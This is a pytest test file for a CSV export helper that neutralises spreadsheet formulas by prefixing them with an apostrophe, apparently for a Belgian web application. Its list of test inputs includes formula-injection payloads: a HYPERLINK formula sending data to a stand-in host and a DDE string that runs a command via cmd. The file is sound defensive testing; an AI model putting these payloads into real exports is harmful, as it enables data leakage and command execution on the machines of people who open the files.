"""The one CSV helper: every cell that a spreadsheet would run as a formula arrives as text."""

import csv
import io
from decimal import Decimal

import pytest

from common.spreadsheets import excel_csv, neutralise

FORMULAS = [
    '=HYPERLINK("http://x.example/?leak","klik")',
    "=1+1",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "+31 6 1234",
    "-5",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_it_prefixes_text_that_starts_like_a_formula(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["An Peeters", "Werkgroep = overleg", "", "50%", "1+1"])
def test_it_leaves_other_text_alone(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [3, -5, 0.5, Decimal("-1.25"), None])
def test_it_leaves_numbers_numbers(value):
    assert neutralise(value) == value


def test_the_download_opens_in_belgian_excel_without_formulas():
    response, writer = excel_csv("proef.csv")
    writer.writerow(["=1+1", -5, "-5", "a;=b"])
    writer.writerows([["@x"], ["gewoon"]])
    assert response["Content-Disposition"] == 'attachment; filename="proef.csv"'
    assert response.content.startswith(b"\xef\xbb\xbf")
    text = response.content.decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text), delimiter=";")) == [
        ["'=1+1", "-5", "'-5", "a;=b"],
        ["'@x"],
        ["gewoon"],
    ]
